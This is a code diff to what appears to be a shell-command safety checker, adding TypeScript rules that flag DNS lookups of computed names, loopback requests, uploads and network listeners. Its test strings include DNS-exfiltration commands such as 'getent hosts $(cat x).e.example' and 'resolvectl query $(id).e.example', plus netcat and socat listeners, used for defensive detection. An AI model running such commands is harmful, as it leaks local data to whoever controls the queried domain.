@@ -3,11 +3,11 @@ import type { Call } from "../call.ts";
 import { MARK, marked } from "../grammar/marks.ts";
 import { sources, upstream, usesNetwork } from "../flow.ts";
 import { isInside } from "../paths.ts";
-import { defineRule, type Rule } from "../rule.ts";
+import { defineRule, type Hit, type Rule } from "../rule.ts";
 import { blame } from "./subjects.ts";
 
 const LOOKUPS =
-  ("ping ping6 arping fping traceroute traceroute6 tracepath tracepath6 mtr tcptraceroute dig host nslookup delv drill kdig " +
+  ("ping ping6 arping fping traceroute traceroute6 tracepath tracepath6 mtr tcptraceroute unbound-host dnstracer dig host nslookup delv drill kdig " +
     "whois resolveip ssh-keyscan geoiplookup rmadison who-permits-upload who-uploads grep-excuses wnpp-alert rc-alert")
     .split(" ");
 
@@ -23,7 +23,11 @@ const SHELLS = new Set(
 /** Data can leave in the name that is looked up. */
 function carries(call: Call): boolean {
   return call.inside.length > 0 || upstream(call).length > 0 ||
-    call.args.some((word) => word.unknown === "computed" || word.unknown === "listing");
+    call.args.some((word) =>
+      word.unknown === "computed" || word.unknown === "listing" ||
+      // `dig "$X.e.example"`: whoever holds e.example reads X.
+      (word.unknown === "environment" && /\.[a-z]/i.test(word.code.slice(word.code.indexOf("$_"))))
+    );
 }
 
 const lookup = defineRule({
@@ -35,6 +39,21 @@ const lookup = defineRule({
   when: (call) => usesNetwork(call) && !carries(call) && !call.options.has("-f", "--flood"),
   match: ["ping -c 1 example.com", "dig +short example.com", "ssh-keyscan -t rsa host"],
   notMatch: ["dig $(cat x).e.example", "ping -f 10.0.0.1"],
+});
+
+const resolver = defineRule({
+  id: "network.resolver_computed",
+  verdict: "ask",
+  reason: "Looks up a name that is only known when it runs, and that others can read",
+  programs: ["getent", "resolvectl", "systemd-resolve", "avahi-resolve"],
+  when: (call) =>
+    /^(?:ahosts\w*|hosts|query|openpgp|service|tlsa|-\w)/.test(call.args[0]?.value ?? "") && carries(call),
+  match: [
+    "getent hosts $(cat x).e.example",
+    'getent ahosts "$X.e.example"',
+    "resolvectl query $(id).e.example",
+  ],
+  notMatch: ["getent hosts e.example", "getent passwd $(whoami)", "resolvectl query e.example"],
 });
 
 const certificate = defineRule({
@@ -129,17 +148,35 @@ const savedDownload = defineRule({
   notMatch: ["curl -o x http://e.example; bash y.sh", "curl -o x http://e.example"],
 });
 
-const listens = (call: Call): boolean =>
-  /^n(?:c|cat|etcat)/.test(call.name) ? call.options.has("-l", "--listen") : /^socat/.test(call.name) &&
+/** This machine under one of its own names. */
+const LOOPBACK = /^(?:localhost|.*\.localhost|127(?:\.\d+){3}|0\.0\.0\.0|\[?::1\]?)$/i;
+
+/** Options that lead a request elsewhere, whatever its address says. */
+const DETOUR = /^(?:-\w*x|--(?:pre)?proxy|--socks|--resolve|--connect-to|--doh|-e$|--use-proxy)/;
+
+/** Every connection that the call opens leads back to this machine. */
+function staysHere(call: Call): boolean {
+  const detours = call.args.some((word) => DETOUR.test(word.prefix)) ||
+    call.assignments.some(({ name }) => /proxy$/i.test(name));
+  return !detours &&
+    call.effects.every((effect) =>
+      effect.kind !== "network" || effect.host !== undefined && LOOPBACK.test(effect.host)
+    );
+}
+
+function listens(call: Call): boolean {
+  if (marked(call, MARK.listen) !== undefined) return true;
+  if (/^n(?:c|cat|etcat)/.test(call.name)) return call.options.has("-l", "--listen");
+  return /^socat/.test(call.name) &&
     call.args.some((word) => /^[a-z0-9]*-l(?:isten)?:|listen/i.test(word.value ?? ""));
+}
 
 const listen = defineRule({
   id: "network.listen",
   verdict: "ask",
-  reason: "Waits for other machines to connect",
-  programs: ["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "socat1"],
+  reason: "Listens for connections, also from other machines",
   when: listens,
-  match: ["nc -l 8080", "socat TCP-LISTEN:80,fork -"],
+  match: ["nc -l 8080", "socat TCP-LISTEN:80,fork -", "python3 -m http.server"],
   notMatch: ["nc host 80"],
 });
 
@@ -177,7 +214,7 @@ const upload = defineRule({
   verdict: "ask",
   reason: "Sends data to another machine",
   programs: ["curl", "wget", "wget2", "scp", "pscp", "rsync", "nc", "ncat", "netcat"],
-  when: uploads,
+  when: (call) => uploads(call) && !staysHere(call),
   match: [
     "curl -d a=b https://e.example",
     "curl -X DELETE https://e.example/x",
@@ -188,12 +225,26 @@ const upload = defineRule({
   notMatch: ["curl https://e.example", "scp box:a .", "wget -qO- http://e"],
 });
 
+const loopback = defineRule({
+  id: "network.loopback",
+  verdict: "ask",
+  reason: "Talks to a program that runs on this machine, which may do whatever it is asked",
+  programs: CLIENTS,
+  when: (call) =>
+    usesNetwork(call) && staysHere(call) && !listens(call) && blame("network")(call, () => true),
+  match: ["curl localhost:3000", "curl -d a=b http://127.0.0.1:8080/x", "nc -zv localhost 80"],
+  notMatch: ["curl https://e.example", "curl --version", "nc -l 80"],
+});
+
+const saves = (call: Call): Hit =>
+  usesNetwork(call) && blame("write")(call, (effect) => effect.redirect !== true);
+
 const download = defineRule({
   id: "network.download",
   verdict: "ask",
   reason: "Fetches a file from another machine",
   programs: CLIENTS,
-  when: (call) => usesNetwork(call) && blame("write")(call, (effect) => effect.redirect !== true),
+  when: saves,
   match: ["curl -fsSL https://example.com/i.sh -o /tmp/i.sh", "wget http://e.example/x", "scp box:a ."],
   notMatch: ["curl https://e.example", "wget -qO- http://e"],
 });
@@ -203,11 +254,13 @@ const request = defineRule({
   verdict: "ask",
   reason: "Reaches another machine",
   programs: CLIENTS,
-  when: (call) => blame("network")(call, (effect) => effect.program !== MARK.query || carries(call)),
+  when: (call) =>
+    !listens(call) && !uploads(call) && !staysHere(call) && !saves(call) &&
+    blame("network")(call, (effect) => effect.program !== MARK.query || carries(call)),
   match: [
     "curl https://e.example",
     "echo | openssl s_client -connect a.example:443",
-    "nc -zv localhost 80",
+    "nc -zv e.example 80",
     "ssh host ls",
   ],
   notMatch: ["curl --version", "curl file:///tmp/x"],
@@ -223,5 +276,7 @@ export const network: readonly Rule[] = [
   upload,
   download,
   listen,
+  loopback,
   request,
+  resolver,
 ];
